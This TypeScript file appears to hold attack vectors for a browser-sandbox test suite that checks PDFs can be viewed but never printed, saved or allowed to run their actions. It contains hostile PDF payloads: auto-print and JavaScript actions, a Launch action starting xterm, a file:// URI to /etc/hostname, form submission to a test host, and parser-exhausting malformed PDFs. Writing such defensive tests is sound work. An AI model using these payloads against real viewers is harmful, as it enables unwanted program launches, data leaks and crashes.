/** I: PDFs can be read, but never saved or printed, and none of their actions is carried out. */
import { pdfOfPages } from '../../sites/pdf-files.ts';
import { CANARY_NAME } from './names.ts';
import { atOnce, inner, onClick } from './pages.ts';
import type { Answer, Attack, Vector } from './types.ts';

const GUARD = ['pdf-reader.ts', 'page-shadows.ts'] as const;
const SLOW_MS = 1_500;

/** A PDF with an action that runs when it is opened. */
const pdf = (action: string): string => pdfOfPages(1, action).toString('latin1');

const PRINTS = pdf('<< /S /Named /N /Print >>');
const SCRIPT = (code: string): string => pdf(`<< /S /JavaScript /JS (${code}) >>`);
const AS_PDF: Answer['headers'] = { 'Content-Type': 'application/pdf' };

function opened(body: string, headers: Answer['headers'] = AS_PDF): Attack {
  return {
    files: {
      '/': '<title>Stage</title><meta http-equiv=refresh content="0;url=/took">',
      '/took': { headers: headers ?? {}, body },
    },
    ran: 'took',
  };
}

const IN = (name: string): string =>
  `add('${name}', { ${name === 'object' ? 'data' : 'src'}: '/a.pdf', type: 'application/pdf', style: 'position:fixed;inset:0;width:100%;height:100%;z-index:9' })`;
const FILE: Attack['files'] = { '/a.pdf': { body: PRINTS } };

const ROWS: readonly (readonly [row: string, title: string, attack: Attack])[] = [
  ['138', 'a PDF that prints itself', opened(PRINTS)],
  [
    '138b',
    'the same with an unknown type',
    opened(PRINTS, { 'Content-Type': 'application/octet-stream', 'Content-Disposition': 'inline; filename=a.pdf' }),
  ],
  ['138c', 'the same in capitals', opened(PRINTS, { 'Content-Type': 'Application/PDF; x=y' })],
  ['138d', 'the same without a type', opened(PRINTS, { 'Content-Type': '' })],
  ['142', 'the same in a frame', atOnce(IN('iframe'), { more: FILE })],
  ['142b', 'the same as an embed element', atOnce(IN('embed'), { more: FILE })],
  ['142c', 'the same as an object element', atOnce(IN('object'), { more: FILE })],
  [
    '142d',
    'a frame with a PDF, printed by the page',
    onClick(`const made = await frame('/a.pdf'); await pause(900); made.contentWindow.print()`, {
      more: { '/a.pdf': { body: pdf('[3 0 R /Fit]') } },
    }),
  ],
  [
    '142e',
    'a blob with a PDF',
    onClick(`location = URL.createObjectURL(new Blob([${JSON.stringify(PRINTS)}], { type: 'application/pdf' }))`),
  ],
  [
    '142f',
    'a blob with a PDF in a pop-up',
    onClick(`open(URL.createObjectURL(new Blob([${JSON.stringify(PRINTS)}], { type: 'application/pdf' })))`),
  ],
  ['142g', 'a PDF in a pop-up', onClick("open('/a.pdf')", { more: FILE })],
  ['142h', 'a PDF returned by a form', onClick("add('form', { method: 'post', action: '/a.pdf' }).submit()", { more: FILE })],
  [
    '137',
    'a PDF served as an attachment',
    opened(PRINTS, { ...AS_PDF, 'Content-Disposition': `attachment; filename="${CANARY_NAME}.pdf"` }),
  ],
];

/** Chromium would download these. */
const SAVED = ['137', '138b'];

const QUIET: readonly (readonly [row: string, title: string, attack: Attack])[] = [
  ['141', 'a PDF with a script that prints', opened(SCRIPT('this.print\\(\\); app.alert\\(1\\)'))],
  ['141b', 'a PDF that starts a program', opened(pdf('<< /S /Launch /F (/usr/bin/xterm) >>'))],
  ['141c', 'a PDF that opens a file', opened(pdf('<< /S /URI /URI (file:///etc/hostname) >>'))],
  ['141d', 'a PDF that writes an e-mail', opened(pdf('<< /S /URI /URI (mailto:a@b.test) >>'))],
  ['141e', 'a PDF that sends a form', opened(SCRIPT("this.submitForm\\('https://bets.test/'\\)"))],
  ['141f', 'a PDF that opens an address', opened(SCRIPT("app.launchURL\\('https://bets.test/', true\\)"))],
  ['143', 'a PDF that is broken', opened(`%PDF-1.7\n${'9 0 obj << /Length 99999999 >> stream\n'.repeat(2000)}`)],
  [
    '143b',
    'a PDF without end',
    opened(
      `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 9999999 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF`,
    ),
  ],
];

const KEYS: Vector['hands'] = [
  { kind: 'wait', ms: 900 },
  { kind: 'click' },
  { kind: 'keys', names: ['ctrl+p', 'ctrl+s', 'F11', 'ctrl+w'] },
];
/** The positions of the buttons for saving and printing in the viewer of Chromium 130, at the right end of its bar. */
const BUTTONS: Vector['hands'] = [
  { kind: 'wait', ms: 1_200 },
  { kind: 'click', x: 0.903, y: 0.03 },
  { kind: 'wait', ms: 500 },
  { kind: 'click', x: 0.931, y: 0.03 },
  { kind: 'wait', ms: 500 },
];

export const PDF_VECTORS: readonly Vector[] = [
  ...ROWS.map(([row, title, attack]): Vector => {
    const guard = SAVED.includes(row) ? [...GUARD, 'downloads.ts' as const] : GUARD;
    return { id: `I-${row}`, title, guard, settleMs: SLOW_MS, ...attack };
  }),
  ...QUIET.map(
    ([row, title, attack]): Vector => ({
      id: `I-${row}`,
      title,
      guard: GUARD,
      settleMs: SLOW_MS,
      ...attack,
      twinless: "Chromium's own viewer does not do it either",
    }),
  ),
  {
    id: 'I-137b',
    title: "the viewer's own buttons",
    guard: GUARD,
    settleMs: 900,
    ...opened(pdf('[3 0 R /Fit]')),
    hands: BUTTONS,
  },
  {
    id: 'I-139',
    title: 'keys while a PDF has the focus',
    guard: GUARD,
    settleMs: 900,
    ...opened(pdf('[3 0 R /Fit]')),
    hands: KEYS,
    twinless: 'the menu with these keys is off as well',
  },
  {
    id: 'I-10',
    title: "the viewer's page in a frame, with a message to print",
    guard: GUARD,
    settleMs: SLOW_MS,
    twinless: 'without a document the viewer prints nothing',
    ...atOnce(
      "const made = await frame('chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html'); made.contentWindow.postMessage({ type: 'print' }, '*')",
      { more: { '/inner.html': inner('') } },
    ),
  },
];
